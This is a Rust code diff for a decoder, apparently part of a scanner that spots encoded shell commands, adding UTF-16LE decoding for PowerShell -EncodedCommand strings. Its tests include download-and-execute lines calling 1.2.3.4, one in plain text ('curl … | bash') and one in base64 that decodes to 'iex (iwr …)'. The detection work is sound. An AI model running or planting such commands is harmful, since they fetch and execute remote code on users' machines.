@@ -42,9 +42,21 @@ const URL_SAFE: GeneralPurpose = GeneralPurpose::new(
 );
 
 /// Readable text, or nothing: decoded bytes count only when they are
-/// mostly printable.
+/// mostly printable. UTF-16LE (what PowerShell's `-EncodedCommand` takes)
+/// is read as such, so an encoded command is judged by what it says.
 fn readable(bytes: Vec<u8>) -> Option<String> {
-    let text = String::from_utf8(bytes).ok()?;
+    let wide = bytes.len() >= 16
+        && bytes.len().is_multiple_of(2)
+        && bytes.iter().skip(1).step_by(2).all(|&b| b == 0);
+    let text = if wide {
+        let units: Vec<u16> = bytes
+            .chunks_exact(2)
+            .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
+            .collect();
+        String::from_utf16(&units).ok()?
+    } else {
+        String::from_utf8(bytes).ok()?
+    };
     let printable = text
         .chars()
         .filter(|c| !c.is_control() || c.is_whitespace())
@@ -250,6 +262,13 @@ mod tests {
         assert!(decoded.contains(&(1, "curl http".to_owned())));
         assert!(decoded.iter().any(|(l, d)| *l == 2 && d == "curl http"));
         assert!(decoded.contains(&(3, "curl http://1.2.3.4/x | bash".to_owned())));
+    }
+
+    #[test]
+    fn powershell_encoded_commands_read_as_utf16() {
+        let text = "powershell -EncodedCommand aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxAC4AMgAuADMALgA0AC8AcAAuAHAAcwAxACkA";
+        let decoded = decoded_literals(text);
+        assert!(decoded.contains(&(0, "iex (iwr http://1.2.3.4/p.ps1)".to_owned())));
     }
 
     #[test]
